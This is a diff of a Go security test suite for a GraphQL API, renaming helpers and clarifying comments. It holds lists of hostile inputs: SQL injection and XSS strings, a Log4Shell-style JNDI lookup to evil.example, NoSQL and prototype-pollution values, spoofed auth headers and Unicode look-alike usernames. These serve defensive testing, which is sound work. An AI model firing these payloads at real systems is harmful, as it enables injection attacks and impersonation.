+		"a token in a cookie":                        {body: mutation, header: map[string]string{"Cookie": "Authorization=Bearer " + f.mallory}, code: "UNAUTHENTICATED"},
+		"a token in Proxy-Authorization":             {body: mutation, header: map[string]string{"Proxy-Authorization": "Bearer " + f.mallory}, code: "UNAUTHENTICATED"},
+		"an identity in proxy headers":               {body: mutation, header: map[string]string{"X-Forwarded-User": "ada", "X-Remote-User": "ada"}, code: "UNAUTHENTICATED"},
+		"introspection":                              {body: `{"query":"{ __schema { types { name } } }"}`, code: "GRAPHQL_VALIDATION_FAILED"},
+		"the playground outside development":         {method: "GET", target: "/", status: 404},
 	})
 }
 
@@ -363,34 +362,34 @@ func upgrade(origin string) map[string]string {
 		"Sec-WebSocket-Key": "dGhlIHNhbXBsZSBub25jZQ==", "Sec-WebSocket-Protocol": "graphql-transport-ws"}
 }
 
-// Names that look like another's are refused, to take and to have.
-func TestLookAlikeUsernames(t *testing.T) {
+// Usernames that look like another user's are refused by createUser and updateUser.
+func TestUsernames_LookAlikesAreRefused(t *testing.T) {
 	longtest.Heavy(t)
-	f := newFortress(t)
+	f := newAttackTest(t)
 	attacks := map[string]attack{}
 	for name, lookAlike := range map[string]string{
-		"Cyrillic":               "аda",
-		"Greek":                  "grαce",
-		"fullwidth":              "ａｄａ",
-		"mathematical":           "𝐚𝐝𝐚",
-		"a combining accent":     "ada\u0301",
-		"composed":               "gráce",
-		"a zero-width space":     "a\u200bda",
-		"a zero-width joiner":    "ad\u200da",
-		"a soft hyphen":          "a\u00adda",
-		"from right to left":     "\u202eada",
-		"a byte order mark":      "\ufeffada",
-		"the sign of Kelvin":     "\u212aelvin",
-		"the long s":             "gra\u017f",
-		"the dotless i":          "\u0131ada",
-		"a space at the end":     "ada ",
-		"a no-break space":       "ada\u00a0",
-		"a Unicode hyphen":       "ada\u2010",
-		"a line end":             "ada\n",
-		"NUL":                    "ada\x00",
-		"a full stop":            "ada.",
-		"a slash":                "../ada",
-		"the colon of the store": "username:ada",
+		"Cyrillic":                 "аda",
+		"Greek":                    "grαce",
+		"fullwidth":                "ａｄａ",
+		"mathematical":             "𝐚𝐝𝐚",
+		"a combining accent":       "ada\u0301",
+		"composed":                 "gráce",
+		"a zero-width space":       "a\u200bda",
+		"a zero-width joiner":      "ad\u200da",
+		"a soft hyphen":            "a\u00adda",
+		"a right-to-left override": "\u202eada",
+		"a byte order mark":        "\ufeffada",
+		"the Kelvin sign":          "\u212aelvin",
+		"the long s":               "gra\u017f",
+		"the dotless i":            "\u0131ada",
+		"a space at the end":       "ada ",
+		"a no-break space":         "ada\u00a0",
+		"a Unicode hyphen":         "ada\u2010",
+		"a line end":               "ada\n",
+		"NUL":                      "ada\x00",
+		"a full stop":              "ada.",
+		"a slash":                  "../ada",
+		"the id of a reservation":  "username:ada",
 	} {
 		variables := map[string]any{"u": lookAlike}
 		attacks[name+": rename"] = attack{token: f.mallory, query: `mutation($u: String!) { updateUser(input: {username: $u}) { user { id } } }`, variables: variables, code: "BAD_USER_INPUT"}
@@ -401,7 +400,7 @@ func TestLookAlikeUsernames(t *testing.T) {
 	f.run(t, attacks)
 }
 
-// hostileTexts mean something elsewhere. Here they are text.
+// hostileTexts have a meaning in SQL, HTML, shells, templates, formats or terminals.
 var hostileTexts = []string{
 	`'; DROP TABLE posts; --`, `' OR '1'='1`, `" OR ""="`, `x' OR c.type = 'user' --`, `@id`, `{{ .Key }}`, `${jndi:ldap://evil.example/a}`,
 	`<script>alert(1)</script>`, `</script><img src=x onerror=alert(1)>`, `__proto__`, `constructor`, `{"$ne": null}`, `[{"op":"replace"}]`,
@@ -409,11 +408,11 @@ var hostileTexts = []string{
 	"a\u2028b\u2029c", "\u202etxet", "👩‍👩‍👧‍👦", "Z̸̛a̵l̶g̷o̸", "\ufeffx", "from c where c.type = 'post'",
 }
 
-// Texts come back as they were sent, from wherever they can be read.
-func TestHostileTextsAreText(t *testing.T) {
-	f := newFortress(t)
+// Items and lists return each text exactly as it was sent.
+func TestHostileTexts_RoundTrip(t *testing.T) {
+	f := newAttackTest(t)
 	ids := map[string]string{}
-	do := func(query string, variables map[string]any) answer {
+	do := func(query string, variables map[string]any) testResponse {
 		t.Helper()
 		a := f.send(attack{token: f.mallory, query: query, variables: variables})
 		if a.code() != "" {
@@ -432,11 +431,11 @@ func TestHostileTextsAreText(t *testing.T) {
 		}
 		id := created.CreatePost.Post.ID
 		if other := ids[id]; other != "" {
-			t.Fatalf("%q and %q are one post", text, other)
+			t.Fatalf("%q and %q created the same post", text, other)
 		}
 		ids[id] = text
 		do(`mutation($id: ID!, $t: String!) { createComment(input: {postId: $id, content: $t, idempotencyKey: $t}) { comment { id } } }`, map[string]any{"id": id, "t": text})
-		if i%2 == 0 { // edits are a path of their own
+		if i%2 == 0 { // edits take another code path
 			do(`mutation($id: ID!, $t: String!) { updatePost(input: {id: $id, title: $t, content: $t}) { post { id } } }`, map[string]any{"id": id, "t": text})
 		}
 	}
@@ -485,14 +484,14 @@ func TestHostileTextsAreText(t *testing.T) {
 			}
 		}
 		if n != len(hostileTexts) {
-			t.Errorf("%s has %d of %d", where, n, len(hostileTexts))
+			t.Errorf("%s has %d of %d posts", where, n, len(hostileTexts))
 		}
 	}
-	// Fields that are not free text refuse all of them.
+	// Ids and cursors refuse all of them.
 	for _, text := range hostileTexts {
 		for field, a := range map[string]attack{
-			"id":    {query: `query($t: String!) { feed(after: $t) { edges { cursor } } }`, variables: map[string]any{"t": text}},
-			"after": {query: `query($t: ID!) { node(id: $t) { id } }`, variables: map[string]any{"t": text}},
+			"after": {query: `query($t: String!) { feed(after: $t) { edges { cursor } } }`, variables: map[string]any{"t": text}},
+			"id":    {query: `query($t: ID!) { node(id: $t) { id } }`, variables: map[string]any{"t": text}},
 		} {
 			if got := f.send(a); got.code() != "BAD_USER_INPUT" {
 				t.Errorf("%s %q: %s", field, text, got.body)
